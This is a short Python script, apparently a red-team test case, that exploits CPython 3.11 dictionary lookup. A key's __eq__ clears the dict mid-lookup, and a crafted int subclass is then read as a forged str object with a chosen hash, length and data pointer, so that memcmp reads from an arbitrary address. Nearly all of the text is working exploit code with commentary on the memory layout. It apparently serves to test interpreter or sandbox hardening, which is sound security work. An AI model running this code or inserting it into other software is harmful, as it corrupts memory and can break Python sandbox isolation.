# technique: plain d[key] = v (insertdict), same as 01: the stored key's __eq__ clears the dict during the lookup; CPython 3.11 re-grows the emptied table as a str-only table after the lookup and stores the non-str key in it; a later str lookup reads that key (an int subclass whose digits we choose) as a str: hash, length, kind and a data pointer, then memcmp()s through the pointer (red-team pass 79; the worker's _Py_dict_lookup refuses a lookup that turned a general table str-only)
# expect: any
M32 = (1 << 32) - 1

def fits(v):                      # an 8-byte field made of two 30-bit int digits
    return (v & M32) < (1 << 30) and (v >> 32) < (1 << 30)

def fake_str_int(h64, L, ptr):
    d = [1] * L                   # L digits: ob_size (+16) == L, the "length"
    d[0], d[1] = h64 & M32, h64 >> 32        # +24: the str "hash"
    d[2] = 4 | 0x80                          # +32: state: kind 1, not compact, ready
    d[12], d[13] = ptr & M32, ptr >> 32      # +72: the non-compact str "data" pointer
    return sum(x << (30 * i) for i, x in enumerate(d))

L, n = 16, 0
while True:
    s = ("p%d" % n).ljust(L, "x")
    h = hash(s)
    if fits(h & ((1 << 64) - 1)):
        break
    n += 1

class K(int):
    def __hash__(self):
        return h

class A:
    def __hash__(self):
        return h
    def __eq__(self, other):
        d.clear()                 # the lookup restarts on Py_EMPTY_KEYS (a str-only table)
        return False

d = {A(): 1}
d[K(fake_str_int(h & ((1 << 64) - 1), L, 0x100000010))] = 0
s in d                            # unicodekeys_lookup_unicode -> unicode_eq(K, s) -> memcmp
result = "no crash"
